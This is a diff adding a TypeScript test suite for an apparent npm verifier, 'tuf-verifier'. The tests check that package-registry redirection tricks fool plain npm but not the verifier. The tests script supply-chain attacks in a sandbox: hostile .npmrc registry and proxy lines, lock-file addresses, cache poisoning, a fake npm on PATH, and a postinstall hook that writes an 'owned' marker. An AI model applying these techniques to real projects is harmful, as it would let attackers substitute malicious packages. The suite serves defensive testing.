@@ -1,0 +1,162 @@
+/** Ways around the registry: each one fools plain npm, and none of them `tuf-verifier ci`. */
+
+import assert from "node:assert/strict";
+import { chmodSync } from "node:fs";
+import { test, type TestContext } from "node:test";
+import { Desk, type Variables } from "./world/desk.js";
+import { integrity, type Package, tarball } from "./world/package.js";
+import { PlainRegistry } from "./world/plain-registry.js";
+import { Published } from "./world/published.js";
+import { EVIL, GREET, HONEST, WORDS } from "./world/words.js";
+
+/** A project whose lock file does not say which bytes, so that plain npm takes what it gets; and a registry of a thief. */
+async function victim(context: TestContext, lock: (one: Package) => Readonly<Record<string, unknown>> = () => ({})): Promise<{
+  readonly desk: Desk;
+  readonly thief: PlainRegistry;
+}> {
+  const thief = await PlainRegistry.serving(EVIL);
+  context.after(() => thief.stop());
+  const desk = new Desk(context);
+  desk.trust(new Published(HONEST));
+  desk.project(HONEST, lock);
+  return { desk, thief };
+}
+
+/** Plain npm installs what the thief has; afterwards `tuf-verifier ci` installs what is signed, and asks the thief for nothing. */
+async function foolsPlainNpmAlone(desk: Desk, thief: PlainRegistry, variables: Variables = {}): Promise<void> {
+  (await desk.npm(["ci"], variables)).endsWith(0);
+  assert.equal(desk.installed("words"), "owned");
+  assert.equal(desk.installed("@scope/greet"), "owned");
+  const asked = thief.asked.length;
+  (await desk.tuf(["ci"], variables)).endsWith(0);
+  assert.equal(desk.installed("words"), "hello");
+  assert.equal(desk.installed("@scope/greet"), "greetings");
+  assert.equal(thief.asked.length, asked, "the thief was asked");
+}
+
+for (const place of ["project", "home"] as const) {
+  test(`a registry in the .npmrc of the ${place}`, async (context) => {
+    const { desk, thief } = await victim(context);
+    desk.write(`${place}/.npmrc`, `registry=${thief.url}\n@scope:registry=${thief.url}\n`);
+    await foolsPlainNpmAlone(desk, thief);
+  });
+}
+
+test("a registry of the environment", async (context) => {
+  const { desk, thief } = await victim(context);
+  await foolsPlainNpmAlone(desk, thief, { NPM_CONFIG_REGISTRY: thief.url, "npm_config_@scope:registry": thief.url });
+});
+
+test("a proxy in .npmrc, and hosts that shall not be asked through one", async (context) => {
+  const { desk, thief } = await victim(context);
+  desk.write("project/.npmrc", `registry=http://registry.example/\nproxy=${thief.url}\nhttps-proxy=${thief.url}\n`);
+  await foolsPlainNpmAlone(desk, thief);
+  desk.write("project/.npmrc", `registry=${thief.url}\nnoproxy=127.0.0.1\nreplace-registry-host=never\n`);
+  await foolsPlainNpmAlone(desk, thief);
+});
+
+test("a proxy of the environment", async (context) => {
+  const { desk, thief } = await victim(context);
+  desk.write("project/.npmrc", "registry=http://registry.example/\n");
+  await foolsPlainNpmAlone(desk, thief, { HTTP_PROXY: thief.url, http_proxy: thief.url, no_proxy: "" });
+});
+
+test("addresses in the lock file that lead elsewhere", async (context) => {
+  const { desk, thief } = await victim(context);
+  desk.project(HONEST, (one) => ({ resolved: thief.address(one) }));
+  await foolsPlainNpmAlone(desk, thief);
+});
+
+test("addresses in the lock file, and a registry that shall not replace them", async (context) => {
+  const { desk, thief } = await victim(context);
+  desk.project(HONEST, (one) => ({ resolved: thief.address(one) }));
+  desk.write("project/.npmrc", "replace-registry-host=never\n");
+  await foolsPlainNpmAlone(desk, thief);
+});
+
+test("npm's cache, poisoned", async (context) => {
+  const { desk, thief } = await victim(context);
+  desk.project(HONEST, (one) => ({ resolved: thief.address(one) }));
+  const cache = { npm_config_cache: desk.path("cache") };
+  (await desk.npm(["ci"], cache)).endsWith(0);
+  await thief.stop();
+
+  // From here on the thief's bytes are in the cache alone, under the keys under which npm looks for them.
+  for (const offline of ["--offline", "--prefer-offline"]) {
+    (await desk.npm(["ci", offline], cache)).endsWith(0);
+    assert.equal(desk.installed("words"), "owned", offline);
+  }
+  for (const more of [{}, { npm_config_offline: "true" }, { npm_config_prefer_offline: "true" }]) {
+    (await desk.tuf(["ci"], { ...cache, ...more })).endsWith(0);
+    assert.equal(desk.installed("words"), "hello");
+    assert.equal(desk.installed("@scope/greet"), "greetings");
+  }
+  desk.write("project/.npmrc", `cache=${desk.path("cache")}\noffline=true\n`);
+  (await desk.tuf(["ci"])).endsWith(0);
+  assert.equal(desk.installed("words"), "hello");
+});
+
+test("packages that were installed before", async (context) => {
+  const { desk, thief } = await victim(context);
+  desk.write("project/.npmrc", `registry=${thief.url}\n@scope:registry=${thief.url}\n`);
+  (await desk.npm(["ci"])).endsWith(0);
+  desk.write("project/node_modules/extra/index.js", 'module.exports = "owned";');
+  (await desk.tuf(["ci"])).endsWith(0);
+  assert.equal(desk.installed("words"), "hello");
+  assert.equal(desk.installed("extra"), undefined);
+});
+
+test("an npm that a package put on the path", async (context) => {
+  const { desk } = await victim(context);
+  const program = "project/node_modules/.bin/npm";
+  desk.write(program, `#!/bin/sh\necho owned > "${desk.path("owned")}"\n`);
+  chmodSync(desk.path(program), 0o755);
+  const variables = { PATH: `${desk.path("project/node_modules/.bin")}:${process.env["PATH"] ?? ""}` };
+  (await desk.npm(["ci"], variables)).endsWith(0);
+  assert.ok(desk.has("owned"), "plain npm is the package's");
+  desk.write("owned", "");
+  (await desk.tuf(["ci"], variables)).endsWith(0);
+  assert.equal(desk.read("owned"), "");
+  assert.equal(desk.installed("words"), "hello");
+});
+
+test("a shrinkwrap file, which npm prefers to the lock file", async (context) => {
+  const { desk, thief } = await victim(context);
+  const entry = (one: Package): object => ({ version: one.version, dependencies: one.dependencies, integrity: integrity(tarball(one)) });
+  const [evilWords = WORDS, evilGreet = GREET] = EVIL;
+  const own = { name: "project", version: "1.0.0", dependencies: { words: "1.1.0", "@scope/greet": "2.0.0" } };
+  desk.writeLock(
+    { "": own, "node_modules/words": entry(evilWords), "node_modules/@scope/greet": entry(evilGreet) },
+    "npm-shrinkwrap.json",
+  );
+  const variables = { npm_config_registry: thief.url };
+  (await desk.npm(["ci"], variables)).endsWith(0);
+  assert.equal(desk.installed("words"), "owned");
+  (await desk.tuf(["ci"])).endsWith(40).fails("wrong software: the lock file demands other bytes of words@1.1.0", "");
+});
+
+test("a run that installs nothing", async (context) => {
+  const { desk } = await victim(context);
+  desk.write("project/.npmrc", "dry-run=true\npackage-lock-only=true\n");
+  (await desk.npm(["ci"])).endsWith(0);
+  assert.equal(desk.installed("words"), undefined);
+  (await desk.tuf(["ci"])).endsWith(0);
+  assert.equal(desk.installed("words"), "hello");
+});
+
+test("an npm that a script of a package starts", async (context) => {
+  const script = `npm install left@1.0.0 --no-save --prefix="$INIT_CWD/other" && echo owned > "$INIT_CWD/owned"; true`;
+  const noisy: Package = { ...WORDS, fields: { scripts: { postinstall: script }, hasInstallScript: true } };
+  const thief = await PlainRegistry.serving([noisy, { name: "left", version: "1.0.0", word: "owned" }]);
+  context.after(() => thief.stop());
+  const desk = new Desk(context);
+  desk.trust(new Published([noisy]));
+  desk.project([noisy]);
+  desk.write("project/.npmrc", `registry=${thief.url}\n`);
+  const variables = { npm_config_dangerously_allow_all_scripts: "true" };
+  (await desk.npm(["ci"], variables)).endsWith(0);
+  assert.ok(desk.has("project/owned"), "plain npm");
+  desk.write("project/owned", "");
+  (await desk.tuf(["ci", "--dangerously-allow-all-scripts"])).endsWith(0);
+  assert.equal(desk.read("project/owned"), "");
+});
